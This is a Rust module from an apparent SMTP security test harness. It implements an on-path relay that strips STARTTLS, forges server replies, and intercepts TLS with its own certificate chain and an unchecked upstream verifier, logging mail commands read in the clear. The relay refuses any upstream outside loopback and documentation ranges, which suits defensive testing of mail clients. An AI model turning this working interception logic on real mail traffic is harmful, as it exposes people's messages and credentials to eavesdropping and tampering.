//! The on-path attacker: a relay between a client and the real endpoint that plays one
//! [`Attack`] (RFC 7672 §1.3).
//!
//! It relays SMTP line by line and tracks which reply answers which command (RFC 2920 keeps
//! replies in order), so it can act at a precise point:
//! - strip: delete STARTTLS from EHLO replies and answer a STARTTLS command with 454 itself;
//! - inject: replace one reply with a forged one. Once STARTTLS goes through, the relay only
//!   copies ciphertext and logs that there is nothing left to forge (RFC 3207 §6);
//! - intercept: answer STARTTLS itself, handshake with the client under its own chain, open
//!   a TLS session of its own to the endpoint, and relay the decrypted dialogue.
//!
//! Everything else passes through unchanged, so the endpoint's transcript shows what a fooled
//! client sends, and the [`AttackerLog`] shows what the attacker did and read.

use std::collections::{BTreeMap, VecDeque};
use std::future::Future;
use std::net::{IpAddr, SocketAddr};
use std::sync::{Arc, Mutex, MutexGuard};
use std::time::Duration;

use rustls_pki_types::ServerName;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, ReadHalf, WriteHalf};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::watch;

use super::acceptor::accept_until;
use super::activity::Activity;
use super::attack::{Attack, InjectAt};
use super::behaviour::Behaviour;
use super::config::tls_config_for;
use super::line::{Line, LineIo};
use super::script::Stage;
use super::stream::version_name;

const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);
const HANDSHAKE_TIMEOUT: Duration = Duration::from_secs(10);
/// Both sides silent this long: give up.
const IDLE_TIMEOUT: Duration = Duration::from_secs(60);
/// Longest relayed line (message lines included).
const LINE_LIMIT: usize = 4 * 1024 * 1024;
const STARTTLS_REFUSAL: &str = "454 4.7.0 TLS not available due to temporary reason";
const STARTTLS_READY: &[u8] = b"220 2.0.0 Ready to start TLS\r\n";

/// What the attacker did, per relayed connection.
#[derive(Clone, Default)]
pub struct AttackerLog(Arc<AttackerInner>);

#[derive(Default)]
struct AttackerInner {
    state: Mutex<AttackerState>,
    /// Relays still running; `settle` waits for zero so observations are complete.
    active: Activity,
}

#[derive(Default)]
struct AttackerState {
    next: u32,
    events: BTreeMap<u32, Vec<String>>,
    /// Messages the endpoint accepted that the interceptor had read in the clear.
    intercepted_deliveries: u32,
    /// STARTTLS commands the interceptor answered with 220 itself: the client then began TLS
    /// with the attacker, which the endpoint behind never sees.
    client_handshakes: u32,
    /// Keep only the latest this many connections (`serve`, which may run for days); a run
    /// keeps them all, the witness reads every one.
    capacity: Option<usize>,
}

impl AttackerLog {
    /// Events as "<connection>: <what>", ordered by connection, then by time.
    pub fn events(&self) -> Vec<String> {
        let state = self.lock();
        state
            .events
            .iter()
            .flat_map(|(n, evs)| evs.iter().map(move |e| format!("{n}: {e}")))
            .collect()
    }

    /// Keep the events of the latest `capacity` connections only (counters stay whole).
    pub fn set_capacity(&self, capacity: usize) {
        let mut state = self.lock();
        state.capacity = Some(capacity.max(1));
        state.trim();
    }

    /// How many messages reached the endpoint through an intercepted TLS session: each one
    /// the sender handed to the attacker after accepting its certificate.
    pub fn intercepted_deliveries(&self) -> u32 {
        self.lock().intercepted_deliveries
    }

    /// How many times a client began TLS with the interceptor (see [`Attack::Intercept`]).
    pub fn client_handshakes(&self) -> u32 {
        self.lock().client_handshakes
    }

    /// Wait until every accepted relay has ended (true), or `timeout` passes (false).
    pub async fn settle(&self, timeout: Duration) -> bool {
        self.0.active.settle(timeout).await
    }

    fn begin(&self) -> RelayGuard {
        let n = {
            let mut state = self.lock();
            state.next += 1;
            let n = state.next;
            state.events.insert(n, Vec::new());
            state.trim();
            n
        };
        self.0.active.begin();
        RelayGuard { log: self.clone(), n }
    }

    fn push(&self, connection: u32, event: impl Into<String>) {
        // Connection 0 is the relay's own (a refused interceptor chain); a connection trimmed
        // away by the capacity stays away.
        let mut state = self.lock();
        if connection == 0 || state.events.contains_key(&connection) {
            state.events.entry(connection).or_default().push(event.into());
        }
    }

    fn lock(&self) -> MutexGuard<'_, AttackerState> {
        // Single pushes cannot leave the state half-updated, so a poisoned lock is still usable.
        self.0.state.lock().unwrap_or_else(|poisoned| poisoned.into_inner())
    }
}

impl AttackerState {
    fn trim(&mut self) {
        if let Some(cap) = self.capacity {
            while self.events.len() > cap {
                self.events.pop_first();
            }
        }
    }
}

/// Counts a relay as active until it is dropped, whichever way the relay ends.
struct RelayGuard {
    log: AttackerLog,
    n: u32,
}

impl Drop for RelayGuard {
    fn drop(&mut self) {
        self.log.0.active.end();
    }
}

impl std::fmt::Debug for AttackerLog {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_tuple("AttackerLog").field(&self.events().len()).finish()
    }
}

/// Runs the attacker relay on `listener` until `shutdown` completes, then closes every
/// relayed connection and returns. `upstream` must be a loopback or documentation address
/// (RFC 5737 / RFC 3849): the harness never dials anything outside its world. An
/// interceptor chain rustls refuses is logged (as connection 0) and STARTTLS is then refused.
pub async fn serve_attacker(
    listener: TcpListener,
    upstream: SocketAddr,
    attack: Attack,
    log: AttackerLog,
    shutdown: impl Future<Output = ()> + Send + 'static,
) {
    let interceptor = match &attack {
        Attack::Intercept { chain } => match tls_config_for(chain, Behaviour::Normal) {
            Ok(config) => Some((config, chain.label.clone())),
            Err(e) => {
                log.push(0, format!("interceptor chain refused: {e}"));
                None
            }
        },
        _ => None,
    };
    let plan = Arc::new(Plan { attack, interceptor });
    accept_until(
        listener,
        shutdown,
        |client, stop| relay(client, upstream, plan.clone(), log.begin(), stop),
        |_| {},
    )
    .await;
}

/// The attack and what it needs at run time.
struct Plan {
    attack: Attack,
    /// The interceptor's TLS configuration and chain label (intercept mode with a good chain).
    interceptor: Option<(Arc<rustls::ServerConfig>, String)>,
}

/// Loopback, or the documentation ranges the world's zones use (only ever bound inside a
/// private namespace); an IPv4-mapped address counts as its IPv4 address ([`crate::address`]).
fn dialable(ip: IpAddr) -> bool {
    crate::address::dialable_upstream(ip)
}

/// What the next complete upstream reply answers.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Expect {
    Server(InjectAt),
    Other,
    /// A reply the relay gives itself (a refusal or a forgery of STARTTLS), in order with
    /// the replies before it.
    Own(String),
    /// The interceptor's own 220 to STARTTLS; the TLS upgrade follows it.
    Intercept,
}

/// A reply line: "ddd", "ddd text" (final) or "ddd-text" (continuation).
fn reply_line(line: &[u8]) -> Option<(&[u8], bool, &[u8])> {
    if line.len() < 3 || !line[..3].iter().all(u8::is_ascii_digit) {
        return None;
    }
    match line.get(3) {
        None => Some((&line[..3], true, b"")),
        Some(b' ') => Some((&line[..3], true, &line[4..])),
        Some(b'-') => Some((&line[..3], false, &line[4..])),
        Some(_) => None,
    }
}

/// Removes STARTTLS from a multi-line EHLO reply and re-numbers continuations. Returns None if there was none.
fn strip_starttls(lines: &[Vec<u8>]) -> Option<Vec<u8>> {
    let parsed: Vec<_> = lines.iter().filter_map(|l| reply_line(l)).collect();
    if parsed.len() != lines.len() {
        return None;
    }
    let is_starttls = |text: &[u8]| {
        let keyword = text.split(|b| *b == b' ').next().unwrap_or_default();
        keyword.eq_ignore_ascii_case(b"STARTTLS")
    };
    // The first line is the greeting (domain), never an extension (RFC 5321 §4.1.1.1).
    let kept: Vec<_> = parsed
        .iter()
        .enumerate()
        .filter(|(i, (_, _, text))| *i == 0 || !is_starttls(text))
        .map(|(_, p)| p)
        .collect();
    if kept.len() == parsed.len() {
        return None;
    }
    let mut out = Vec::new();
    for (i, (code, _, text)) in kept.iter().enumerate() {
        out.extend_from_slice(code);
        out.push(if i + 1 == kept.len() { b' ' } else { b'-' });
        out.extend_from_slice(text);
        out.extend_from_slice(b"\r\n");
    }
    Some(out)
}

/// How a stretch of line relaying ended.
enum Flow {
    End(&'static str),
    /// STARTTLS went through to the endpoint: from here on only ciphertext passes.
    Blind,
    /// The interceptor answered STARTTLS: upgrade both legs.
    Upgrade,
}

/// The dialogue state that survives a TLS upgrade.
struct Dialogue {
    n: u32,
    log: AttackerLog,
    plan: Arc<Plan>,
    expect: VecDeque<Expect>,
    reply: Vec<Vec<u8>>,
    in_body: bool,
    /// The forged reply was sent (inject mode forges once per connection).
    injected: bool,
    /// Both legs run through the interceptor's TLS sessions.
    intercepted: bool,
}

enum Side {
    Client(std::io::Result<Line>),
    Server(std::io::Result<Line>),
}

type Reader<S> = LineIo<ReadHalf<S>>;

async fn relay(
    client: TcpStream,
    upstream: SocketAddr,
    plan: Arc<Plan>,
    guard: RelayGuard,
    mut stop: watch::Receiver<bool>,
) {
    let (log, n) = (guard.log.clone(), guard.n);
    if !dialable(upstream.ip()) {
        log.push(n, "refused: upstream is outside loopback and the documentation ranges");
        return;
    }
    let server = match tokio::time::timeout(CONNECT_TIMEOUT, TcpStream::connect(upstream)).await {
        Ok(Ok(s)) => {
            let _ = s.set_nodelay(true);
            s
        }
        _ => {
            log.push(n, "upstream unreachable");
            return;
        }
    };
    log.push(n, "relaying");
    let (client_read, mut to_client) = tokio::io::split(client);
    let (server_read, mut to_server) = tokio::io::split(server);
    let mut from_client = LineIo::new(client_read);
    let mut from_server = LineIo::new(server_read);
    let mut d = Dialogue {
        n,
        log: log.clone(),
        plan,
        expect: VecDeque::from([Expect::Server(InjectAt::Stage(Stage::Greeting))]),
        reply: Vec::new(),
        in_body: false,
        injected: false,
        intercepted: false,
    };
    let flow = d
        .pump(
            &mut from_client,
            &mut to_client,
            &mut from_server,
            &mut to_server,
            &mut stop,
        )
        .await;
    let end = match flow {
        Flow::End(end) => {
            let _ = to_server.shutdown().await;
            let _ = to_client.shutdown().await;
            end
        }
        Flow::Blind => {
            if matches!(d.plan.attack, Attack::Inject { .. }) && !d.injected {
                log.push(
                    n,
                    "STARTTLS went through: only ciphertext from here on, nothing left to forge",
                );
            }
            blind(from_client, to_client, from_server, to_server, &mut stop).await
        }
        Flow::Upgrade => {
            d.intercept(from_client, to_client, from_server, to_server, &mut stop)
                .await
        }
    };
    log.push(n, format!("closed: {end}"));
}

impl Dialogue {
    /// Relays lines until the connection ends or changes its nature.
    async fn pump<C, S>(
        &mut self,
        from_client: &mut Reader<C>,
        to_client: &mut WriteHalf<C>,
        from_server: &mut Reader<S>,
        to_server: &mut WriteHalf<S>,
        stop: &mut watch::Receiver<bool>,
    ) -> Flow
    where
        C: AsyncRead + AsyncWrite + Unpin,
        S: AsyncRead + AsyncWrite + Unpin,
    {
        let idle = tokio::time::sleep(IDLE_TIMEOUT);
        tokio::pin!(idle);
        loop {
            let side = tokio::select! {
                l = from_client.read_line(LINE_LIMIT) => Side::Client(l),
                l = from_server.read_line(LINE_LIMIT) => Side::Server(l),
                _ = &mut idle => return Flow::End("idle timeout"),
                _ = stop.wait_for(|s| *s) => return Flow::End("shutdown"),
            };
            idle.as_mut().reset(tokio::time::Instant::now() + IDLE_TIMEOUT);
            let flow = match side {
                Side::Client(Ok(Line::Complete(line))) => self.client_line(line, to_client, to_server).await,
                Side::Server(Ok(Line::Complete(line))) => self.server_line(line, to_client).await,
                // After QUIT both ends close at once, and which EOF the relay reads first is a
                // race: a normal end is recorded as "end of stream" so observations are deterministic.
                Side::Client(Ok(Line::Eof)) | Side::Server(Ok(Line::Eof)) => Err(Flow::End("end of stream")),
                Side::Client(Ok(Line::TooLong)) | Side::Server(Ok(Line::TooLong)) => Err(Flow::End("line too long")),
                Side::Client(Err(_)) => Err(Flow::End("client error")),
                Side::Server(Err(_)) => Err(Flow::End("upstream error")),
            };
            if let Err(flow) = flow {
                return flow;
            }
        }
    }

    async fn client_line<C, S>(
        &mut self,
        line: Vec<u8>,
        to_client: &mut WriteHalf<C>,
        to_server: &mut WriteHalf<S>,
    ) -> Result<(), Flow>
    where
        C: AsyncWrite,
        S: AsyncWrite,
    {
        if self.in_body {
            if line == b"." {
                self.in_body = false;
                self.expect.push_back(Expect::Server(InjectAt::Stage(Stage::EndOfData)));
            }
            return send(to_server, &line).await.map_err(|_| Flow::End("upstream error"));
        }
        let verb = line
            .split(|b| *b == b' ')
            .next()
            .unwrap_or_default()
            .to_ascii_uppercase();
        let stage = match verb.as_slice() {
            b"STARTTLS" => {
                let own = match &self.plan.attack {
                    Attack::StripStarttls => {
                        self.log.push(self.n, "answered STARTTLS with 454 (not forwarded)");
                        Some(Expect::Own(STARTTLS_REFUSAL.into()))
                    }
                    Attack::Inject {
                        at: InjectAt::Starttls,
                        reply,
                    } if !self.injected => {
                        self.injected = true;
                        let forged = format!("{} {}", reply.code, reply.text);
                        self.log
                            .push(self.n, format!("answered STARTTLS with \"{forged}\" (not forwarded)"));
                        Some(Expect::Own(forged))
                    }
                    Attack::Intercept { .. } if self.intercepted => None,
                    Attack::Intercept { .. } => match &self.plan.interceptor {
                        Some(_) => {
                            self.log
                                .push(self.n, "answered STARTTLS with 220 itself (not forwarded)");
                            self.log.lock().client_handshakes += 1;
                            Some(Expect::Intercept)
                        }
                        None => Some(Expect::Own(STARTTLS_REFUSAL.into())),
                    },
                    _ => None,
                };
                if let Some(own) = own {
                    self.expect.push_back(own);
                    return self.flush_own(to_client).await;
                }
                InjectAt::Starttls
            }
            b"EHLO" | b"HELO" => InjectAt::Stage(Stage::Ehlo),
            b"MAIL" => {
                if self.intercepted {
                    let text = String::from_utf8_lossy(&line);
                    self.log
                        .push(self.n, format!("read \"{text}\" inside the intercepted TLS session"));
                }
                InjectAt::Stage(Stage::Mail)
            }
            b"RCPT" => InjectAt::Stage(Stage::Rcpt),
            b"DATA" => InjectAt::Stage(Stage::Data),
            _ => {
                self.expect.push_back(Expect::Other);
                return send(to_server, &line).await.map_err(|_| Flow::End("upstream error"));
            }
        };
        self.expect.push_back(Expect::Server(stage));
        send(to_server, &line).await.map_err(|_| Flow::End("upstream error"))
    }

    async fn server_line<C: AsyncWrite>(&mut self, line: Vec<u8>, to_client: &mut WriteHalf<C>) -> Result<(), Flow> {
        let Some((code, last, _)) = reply_line(&line) else {
            // Not a reply line: pass it (and whatever was collected) through untouched.
            let mut out = Vec::new();
            for l in self.reply.drain(..).chain(std::iter::once(line)) {
                out.extend_from_slice(&l);
                out.extend_from_slice(b"\r\n");
            }
            return to_client.write_all(&out).await.map_err(|_| Flow::End("client error"));
        };
        let code = code.to_vec();
        self.reply.push(line);
        if !last {
            return Ok(());
        }
        let lines = std::mem::take(&mut self.reply);
        let answers = self.expect.pop_front();
        let mut out = None;
        if let (Attack::Inject { at, reply }, Some(Expect::Server(stage))) = (&self.plan.attack, &answers)
            && at == stage
            && !self.injected
        {
            self.injected = true;
            let forged = format!("{} {}", reply.code, reply.text);
            let real = String::from_utf8_lossy(&lines[0]).into_owned();
            self.log.push(
                self.n,
                format!("replaced the {} reply \"{real}\" with \"{forged}\"", at.name()),
            );
            out = Some(format!("{forged}\r\n").into_bytes());
            if *stage == InjectAt::Stage(Stage::Data) && reply.code == 354 {
                self.in_body = true;
            }
        } else {
            match answers {
                Some(Expect::Server(InjectAt::Stage(Stage::Ehlo)))
                    if code == b"250" && matches!(self.plan.attack, Attack::StripStarttls) =>
                {
                    if let Some(stripped) = strip_starttls(&lines) {
                        self.log.push(self.n, "stripped STARTTLS from EHLO reply");
                        out = Some(stripped);
                    }
                }
                Some(Expect::Server(InjectAt::Stage(Stage::Data))) if code == b"354" => self.in_body = true,
                Some(Expect::Server(InjectAt::Stage(Stage::EndOfData))) if code == b"250" && self.intercepted => {
                    self.log.push(
                        self.n,
                        "the endpoint accepted a message the interceptor read in the clear",
                    );
                    self.log.lock().intercepted_deliveries += 1;
                }
                _ => {}
            }
        }
        let starttls_through = answers == Some(Expect::Server(InjectAt::Starttls)) && code == b"220" && out.is_none();
        let out = out.unwrap_or_else(|| {
            let mut raw = Vec::new();
            for l in &lines {
                raw.extend_from_slice(l);
                raw.extend_from_slice(b"\r\n");
            }
            raw
        });
        to_client.write_all(&out).await.map_err(|_| Flow::End("client error"))?;
        if starttls_through {
            return Err(Flow::Blind);
        }
        self.flush_own(to_client).await
    }

    /// Gives the replies the relay answers itself once their turn has come.
    async fn flush_own<C: AsyncWrite>(&mut self, to_client: &mut WriteHalf<C>) -> Result<(), Flow> {
        loop {
            match self.expect.front() {
                Some(Expect::Own(reply)) => {
                    let out = format!("{reply}\r\n");
                    self.expect.pop_front();
                    to_client
                        .write_all(out.as_bytes())
                        .await
                        .map_err(|_| Flow::End("client error"))?;
                }
                Some(Expect::Intercept) => {
                    self.expect.pop_front();
                    to_client
                        .write_all(STARTTLS_READY)
                        .await
                        .map_err(|_| Flow::End("client error"))?;
                    return Err(Flow::Upgrade);
                }
                _ => return Ok(()),
            }
        }
    }

    /// The man in the middle: TLS with the client under the interceptor's chain, then TLS of
    /// its own to the endpoint, then the decrypted dialogue relayed line by line.
    async fn intercept(
        mut self,
        from_client: Reader<TcpStream>,
        to_client: WriteHalf<TcpStream>,
        mut from_server: Reader<TcpStream>,
        mut to_server: WriteHalf<TcpStream>,
        stop: &mut watch::Receiver<bool>,
    ) -> &'static str {
        let n = self.n;
        let (client_read, ahead) = from_client.into_parts();
        if !ahead.is_empty() {
            // RFC 3207 §5 / §6: nothing may follow STARTTLS before the handshake.
            return "client pipelined after STARTTLS";
        }
        let Some((config, label)) = self.plan.interceptor.clone() else {
            return "no interceptor chain";
        };
        let client = client_read.unsplit(to_client);
        let accept = tokio_rustls::TlsAcceptor::from(config).accept(client);
        // A client that refuses the chain either aborts the handshake with an alert or
        // completes it and closes before its first command (RFC 3207 §4.2: after TLS it must
        // start over with EHLO). Which one depends on the client's TLS stack and timing (Exim
        // with GnuTLS does both, run to run), so both are recorded alike, and the attacker
        // opens nothing to the endpoint until the client has said something inside TLS.
        let refused = |log: &AttackerLog| {
            log.push(n, format!("the client refused the interceptor's chain `{label}`"));
            "client refused the chain"
        };
        let client = match tokio::time::timeout(HANDSHAKE_TIMEOUT, accept).await {
            Ok(Ok(tls)) => tls,
            Ok(Err(_)) => return refused(&self.log),
            Err(_) => return "tls handshake timeout",
        };
        let sni = client.get_ref().1.server_name().map(str::to_string);
        let version = version_name(client.get_ref().1.protocol_version());
        let (client_read, mut to_client) = tokio::io::split(client);
        let mut from_client = LineIo::new(client_read);
        match tokio::time::timeout(HANDSHAKE_TIMEOUT, from_client.fill()).await {
            Ok(Ok(n)) if n > 0 => {}
            _ => {
                let _ = to_client.shutdown().await;
                return refused(&self.log);
            }
        }
        self.log.push(
            n,
            format!(
                "completed {version} with the client presenting {label} (SNI {})",
                sni.as_deref().unwrap_or("none")
            ),
        );
        self.intercepted = true;
        self.expect.clear();
        self.reply.clear();
        self.in_body = false;

        // The attacker's own STARTTLS to the endpoint (RFC 3207 §4).
        if send(&mut to_server, b"STARTTLS").await.is_err() {
            return "upstream error";
        }
        let code = loop {
            match tokio::time::timeout(HANDSHAKE_TIMEOUT, from_server.read_line(LINE_LIMIT)).await {
                Ok(Ok(Line::Complete(l))) => match reply_line(&l) {
                    Some((code, true, _)) => break code.to_vec(),
                    Some((_, false, _)) => continue,
                    None => return "upstream error",
                },
                _ => return "upstream error",
            }
        };
        if code != b"220" {
            self.log.push(
                n,
                format!(
                    "the endpoint refused STARTTLS ({}): relaying to it in cleartext",
                    String::from_utf8_lossy(&code)
                ),
            );
            let flow = self
                .pump(&mut from_client, &mut to_client, &mut from_server, &mut to_server, stop)
                .await;
            let _ = to_client.shutdown().await;
            return end_of(flow);
        }
        let (server_read, ahead) = from_server.into_parts();
        if !ahead.is_empty() {
            return "upstream sent data after 220";
        }
        let server = server_read.unsplit(to_server);
        let name = match sni.as_deref().map(|s| ServerName::try_from(s.to_string())) {
            Some(Ok(name)) => name,
            _ => ServerName::IpAddress(
                server
                    .peer_addr()
                    .map(|a| a.ip())
                    .unwrap_or(IpAddr::from([127, 0, 0, 1]))
                    .into(),
            ),
        };
        let connector = tokio_rustls::TlsConnector::from(unchecked_client_config());
        let server = match tokio::time::timeout(HANDSHAKE_TIMEOUT, connector.connect(name, server)).await {
            Ok(Ok(tls)) => tls,
            _ => {
                self.log.push(n, "TLS to the endpoint failed");
                let _ = to_client.shutdown().await;
                return "upstream tls failed";
            }
        };
        self.log.push(n, "opened its own TLS session to the endpoint");
        let (server_read, mut to_server) = tokio::io::split(server);
        let mut from_server = LineIo::new(server_read);
        let flow = self
            .pump(&mut from_client, &mut to_client, &mut from_server, &mut to_server, stop)
            .await;
        let _ = to_server.shutdown().await;
        let _ = to_client.shutdown().await;
        end_of(flow)
    }
}

fn end_of(flow: Flow) -> &'static str {
    match flow {
        Flow::End(end) => end,
        // A second STARTTLS inside TLS is a protocol error the endpoint answers; the relay
        // does not upgrade twice.
        Flow::Blind | Flow::Upgrade => "second STARTTLS",
    }
}

/// The interceptor's client leg checks nothing: it only needs a session to the endpoint.
fn unchecked_client_config() -> Arc<rustls::ClientConfig> {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut config = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .expect("ring supports the default protocol versions")
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(crate::pki::UncheckedVerifier::new()))
        .with_no_client_auth();
    config.enable_sni = true;
    Arc::new(config)
}

/// Copies bytes both ways, unread, until either side closes (after STARTTLS went through).
async fn blind<C, S>(
    from_client: Reader<C>,
    mut to_client: WriteHalf<C>,
    from_server: Reader<S>,
    mut to_server: WriteHalf<S>,
    stop: &mut watch::Receiver<bool>,
) -> &'static str
where
    C: AsyncRead + AsyncWrite + Unpin,
    S: AsyncRead + AsyncWrite + Unpin,
{
    let (mut client_read, ahead_c) = from_client.into_parts();
    let (mut server_read, ahead_s) = from_server.into_parts();
    if to_server.write_all(&ahead_c).await.is_err() || to_client.write_all(&ahead_s).await.is_err() {
        return "end of stream";
    }
    let (mut cbuf, mut sbuf) = (vec![0u8; 16 * 1024], vec![0u8; 16 * 1024]);
    enum Got {
        Client(std::io::Result<usize>),
        Server(std::io::Result<usize>),
        End(&'static str),
    }
    let end = loop {
        let got = tokio::select! {
            r = client_read.read(&mut cbuf) => Got::Client(r),
            r = server_read.read(&mut sbuf) => Got::Server(r),
            _ = tokio::time::sleep(IDLE_TIMEOUT) => Got::End("idle timeout"),
            _ = stop.wait_for(|s| *s) => Got::End("shutdown"),
        };
        let copied = match got {
            Got::Client(Ok(k)) if k > 0 => to_server.write_all(&cbuf[..k]).await,
            Got::Server(Ok(k)) if k > 0 => to_client.write_all(&sbuf[..k]).await,
            Got::Client(_) | Got::Server(_) => break "end of stream",
            Got::End(end) => break end,
        };
        if copied.is_err() {
            break "end of stream";
        }
    };
    let _ = to_server.shutdown().await;
    let _ = to_client.shutdown().await;
    end
}

async fn send<W: AsyncWrite + Unpin>(w: &mut W, line: &[u8]) -> std::io::Result<()> {
    let mut out = Vec::with_capacity(line.len() + 2);
    out.extend_from_slice(line);
    out.extend_from_slice(b"\r\n");
    w.write_all(&out).await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bounded_log_keeps_the_latest_connections_only() {
        let log = AttackerLog::default();
        let first = log.begin();
        log.push(first.n, "relaying");
        log.set_capacity(2);
        let guards: Vec<RelayGuard> = (0..3).map(|_| log.begin()).collect();
        for g in &guards {
            log.push(g.n, "relaying");
        }
        // A connection already trimmed away records nothing more.
        log.push(first.n, "closed: quit");
        assert_eq!(log.events(), vec!["3: relaying", "4: relaying"]);
        // Unbounded (a run): every connection stays.
        let all = AttackerLog::default();
        let gs: Vec<RelayGuard> = (0..5).map(|_| all.begin()).collect();
        for g in &gs {
            all.push(g.n, "x");
        }
        assert_eq!(all.events().len(), 5);
    }

    fn lines(text: &str) -> Vec<Vec<u8>> {
        text.split("\r\n")
            .filter(|l| !l.is_empty())
            .map(|l| l.as_bytes().to_vec())
            .collect()
    }

    #[test]
    fn strips_starttls_in_the_middle_and_at_the_end() {
        let middle = lines("250-mx\r\n250-PIPELINING\r\n250-STARTTLS\r\n250 8BITMIME\r\n");
        assert_eq!(
            strip_starttls(&middle).as_deref(),
            Some(&b"250-mx\r\n250-PIPELINING\r\n250 8BITMIME\r\n"[..])
        );
        let last = lines("250-mx\r\n250-PIPELINING\r\n250 starttls\r\n");
        assert_eq!(
            strip_starttls(&last).as_deref(),
            Some(&b"250-mx\r\n250 PIPELINING\r\n"[..])
        );
        let none = lines("250-mx\r\n250 8BITMIME\r\n");
        assert_eq!(strip_starttls(&none), None);
        // A host literally named STARTTLS in the greeting line is not an extension.
        assert_eq!(strip_starttls(&lines("250 STARTTLS\r\n")), None);
    }

    #[test]
    fn reply_lines() {
        assert_eq!(reply_line(b"250"), Some((&b"250"[..], true, &b""[..])));
        assert_eq!(reply_line(b"250-x"), Some((&b"250"[..], false, &b"x"[..])));
        assert_eq!(reply_line(b"25"), None);
        assert_eq!(reply_line(b"250x"), None);
    }

    #[test]
    fn only_loopback_and_documentation_addresses_are_dialled() {
        for ok in [
            "127.0.0.1",
            "127.1.2.3",
            "192.0.2.10",
            "198.51.100.1",
            "203.0.113.9",
            "::1",
            "2001:db8::25",
            "::ffff:127.0.0.1",
        ] {
            assert!(dialable(ok.parse().expect("literal")), "{ok}");
        }
        for bad in [
            "10.0.0.1",
            "192.168.1.1",
            "8.8.8.8",
            "2001:4860::8888",
            "192.0.3.1",
            "::ffff:8.8.8.8",
        ] {
            assert!(!dialable(bad.parse().expect("literal")), "{bad}");
        }
    }
}
